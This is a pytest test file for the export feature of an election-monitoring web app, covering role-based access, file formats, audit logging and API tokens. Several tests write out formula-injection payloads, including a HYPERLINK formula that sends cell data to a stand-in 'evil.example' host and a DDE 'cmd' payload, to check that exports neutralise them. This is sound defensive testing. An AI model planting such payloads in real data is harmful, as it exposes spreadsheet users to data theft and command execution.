"""Exports: for admins, coordinators and analysts only; every dataset in CSV, XLSX and Parquet,
read back by pandas with the documented columns."""

from __future__ import annotations

import io

import pandas as pd
import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from pollwatch.api.datasets import DATASETS
from pollwatch.api.tests.conftest import PROTOCOLS
from pollwatch.testing import PERSONAS

EXPORTERS = {"admin", "coordinator", "analyst"}
FORMATS = ["csv", "xlsx", "parquet"]


def fetch(client, mission, persona: str, url: str):
    if persona != "anonymous":
        client.force_login(mission.users[persona])
    return client.get(url)


def assert_export_reach(response, persona: str) -> None:
    if persona == "anonymous":
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))
    elif persona in EXPORTERS:
        assert response.status_code == 200
    elif persona == "outsider":
        assert response.status_code == 404
    else:
        assert response.status_code == 403


def content(response) -> bytes:
    if isinstance(response, StreamingHttpResponse) or response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def read(data: bytes, fmt: str) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(io.BytesIO(data), keep_default_na=False, na_values=[""])
    if fmt == "xlsx":
        return pd.read_excel(io.BytesIO(data), engine="openpyxl")
    return pd.read_parquet(io.BytesIO(data))


@pytest.mark.parametrize("persona", [*PERSONAS, "anonymous"])
def test_only_admins_coordinators_and_analysts_see_the_export_page(client, mission, persona):
    response = fetch(client, mission, persona, "/e/test-election/export/")
    assert_export_reach(response, persona)
    if response.status_code == 200:
        page = response.content.decode()
        for name in DATASETS:
            for fmt in FORMATS:
                assert f'href="/e/test-election/export/{name}.{fmt}"' in page
        assert "/e/test-election/" in page  # the navigation knows the election


@pytest.mark.parametrize("persona", [*PERSONAS, "anonymous"])
@pytest.mark.parametrize("dataset", DATASETS)
def test_only_admins_coordinators_and_analysts_export(client, mission, persona, dataset):
    response = fetch(client, mission, persona, f"/e/test-election/export/{dataset}.csv")
    assert_export_reach(response, persona)


@pytest.mark.parametrize("persona", [*PERSONAS, "anonymous"])
@pytest.mark.parametrize("fmt", ["xlsx", "parquet"])
def test_every_format_keeps_the_same_reach(client, mission, persona, fmt):
    response = fetch(client, mission, persona, f"/e/test-election/export/stations.{fmt}")
    assert_export_reach(response, persona)


def test_an_unknown_dataset_or_format_is_not_found(client, mission):
    client.force_login(mission.users["analyst"])
    assert client.get("/e/test-election/export/people.csv").status_code == 404
    assert client.get("/e/test-election/export/stations.json").status_code == 404


EXPECTED_ROWS = {"stations": 6, "submissions": 8, "results": 6, "incidents": 2, "estimates": 8}


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("dataset", DATASETS)
def test_exports_read_back_with_the_documented_columns(client, election_night, dataset, fmt):
    client.force_login(election_night.users["analyst"])
    response = client.get(f"/e/test-election/export/{dataset}.{fmt}")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert f'filename="test-election-{dataset}.{fmt}"' in response["Content-Disposition"]
    frame = read(content(response), fmt)
    expected = [c.name for c in DATASETS[dataset].columns(election_night.election)]
    assert list(frame.columns) == expected
    assert len(frame) == EXPECTED_ROWS[dataset]


def test_csv_streams(client, mission):
    client.force_login(mission.users["analyst"])
    response = client.get("/e/test-election/export/stations.csv")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.parametrize("fmt", FORMATS)
def test_stations_are_read_a_chunk_at_a_time(
    client, mission, monkeypatch, django_assert_max_num_queries, fmt
):
    from pollwatch.api import chunking

    monkeypatch.setattr(chunking, "CHUNK", 2)
    client.force_login(mission.users["analyst"])
    with django_assert_max_num_queries(12):
        frame = read(content(client.get(f"/e/test-election/export/stations.{fmt}")), fmt)
    assert list(frame["code"]) == sorted(PROTOCOLS)
    assert list(frame["region_code"]) == ["R1", "R1", "R1", "R1", "R2", "R2"]


def test_types_survive_the_round_trip(client, election_night):
    client.force_login(election_night.users["analyst"])
    frame = read(content(client.get("/e/test-election/export/stations.parquet")), "parquet")
    assert frame["registered_voters"].dtype == "int64"
    assert frame["newly_included"].dtype == bool
    assert list(frame["newly_included"]) == [False] * 4 + [True] * 2
    submissions = read(
        content(client.get("/e/test-election/export/submissions.parquet")), "parquet"
    )
    assert str(submissions["created"].dtype) == "datetime64[us, UTC]"
    csv = read(content(client.get("/e/test-election/export/stations.csv")), "csv")
    assert csv["newly_included"].tolist() == [False] * 4 + [True] * 2


def test_official_results_have_a_column_per_candidate(client, election_night):
    client.force_login(election_night.users["coordinator"])
    frame = read(content(client.get("/e/test-election/export/results.csv")), "csv")
    row = frame.set_index("station_code").loc["D1-001"]
    assert (row["C1"], row["C2"], row["valid"]) == (400, 200, 600)
    assert row["flags"] == '["ballots cast below issued"]'


def test_estimates_hold_every_scope_and_candidate(client, election_night):
    client.force_login(election_night.users["analyst"])
    frame = read(content(client.get("/e/test-election/export/estimates.xlsx")), "xlsx")
    scopes = set(zip(frame["source"], frame["scope"], strict=True))
    assert scopes == {
        ("quick_count", "national"),
        ("quick_count", "R1"),
        ("quick_count", "R2"),
        ("exit_poll", "national"),
    }
    national = frame[(frame["source"] == "quick_count") & (frame["scope"] == "national")]
    assert list(national["candidate_code"]) == ["C1", "C2"]
    assert (national["low"] <= national["estimate"]).all()
    assert (national["estimate"] <= national["high"]).all()


def test_an_observers_text_stays_text_in_excel(client, election_night):
    from openpyxl import load_workbook

    from pollwatch.submissions.models import Incident

    Incident.objects.update(summary='=HYPERLINK("http://evil.example")')
    client.force_login(election_night.users["analyst"])
    book = load_workbook(io.BytesIO(content(client.get("/e/test-election/export/incidents.xlsx"))))
    sheet = book.active
    column = [c.value for c in sheet[1]].index("summary") + 1
    cell = sheet.cell(row=2, column=column)
    assert cell.data_type == "s" and cell.value == '\'=HYPERLINK("http://evil.example")'


HOSTILE_NAMES = {
    "D1-001": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "D1-002": "+cmd|' /C calc'!A0",
    "D2-001": "-2+3",
    "D2-002": "\t@SUM(1+1)",
    "D3-001": "+994501234567",
    "D3-002": "School 5",
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_station_names_never_run_as_formulas_in_a_spreadsheet(client, mission, fmt):
    from pollwatch.elections.models import PollingStation

    for code, name in HOSTILE_NAMES.items():
        PollingStation.objects.filter(code=code).update(name=name, latitude=-12.5)
    client.force_login(mission.users["analyst"])
    frame = read(content(client.get(f"/e/test-election/export/stations.{fmt}")), fmt)
    names = dict(zip(frame["code"], frame["name"], strict=True))
    assert names == {
        "D1-001": '\'=HYPERLINK("http://evil.example/?x="&A1,"open")',
        "D1-002": "'+cmd|' /C calc'!A0",
        "D2-001": "'-2+3",
        "D2-002": "'\t@SUM(1+1)",
        "D3-001": "+994501234567",  # a phone number or a number is left alone
        "D3-002": "School 5",
    }
    assert frame["latitude"].tolist() == [-12.5] * 6  # numbers stay numbers
    assert frame["code"].tolist() == sorted(HOSTILE_NAMES)


def test_parquet_keeps_the_text_as_recorded(client, mission):
    from pollwatch.elections.models import PollingStation

    for code, name in HOSTILE_NAMES.items():
        PollingStation.objects.filter(code=code).update(name=name)
    client.force_login(mission.users["analyst"])
    frame = read(content(client.get("/e/test-election/export/stations.parquet")), "parquet")
    assert dict(zip(frame["code"], frame["name"], strict=True)) == HOSTILE_NAMES


def test_an_empty_export_still_has_its_header(client, mission):
    client.force_login(mission.users["analyst"])
    for fmt in FORMATS:
        frame = read(content(client.get(f"/e/test-election/export/incidents.{fmt}")), fmt)
        assert len(frame) == 0
        assert list(frame.columns) == [c.name for c in DATASETS["incidents"].COLUMNS]


def test_exports_are_audited(client, mission):
    from pollwatch.audit.models import AuditEvent

    client.force_login(mission.users["analyst"])
    content(client.get("/e/test-election/export/stations.parquet"))
    event = AuditEvent.objects.get(kind="export.download")
    assert event.actor == "analyst" and event.election_id == mission.election.pk
    assert event.payload == {"dataset": "stations", "format": "parquet"}


@pytest.mark.parametrize(
    ("persona", "status"),
    [
        ("analyst", 200),
        ("coordinator", 200),
        ("observer", 403),
        ("supervisor", 403),
        ("outsider", 404),
    ],
)
def test_a_script_exports_with_its_api_token(client, mission, tokens, persona, status):
    from pollwatch.api.tests.conftest import bearer

    response = client.get(
        "/e/test-election/export/stations.parquet", headers=bearer(tokens[persona])
    )
    assert response.status_code == status
    if status == 200:
        assert len(read(content(response), "parquet")) == 6


def test_a_revoked_token_cannot_export(client, mission, tokens):
    from django.utils import timezone

    from pollwatch.api.models import ApiToken
    from pollwatch.api.tests.conftest import bearer

    ApiToken.objects.update(revoked=timezone.now())
    response = client.get("/e/test-election/export/stations.csv", headers=bearer(tokens["analyst"]))
    assert response.status_code == 401 and response["WWW-Authenticate"] == "Bearer"
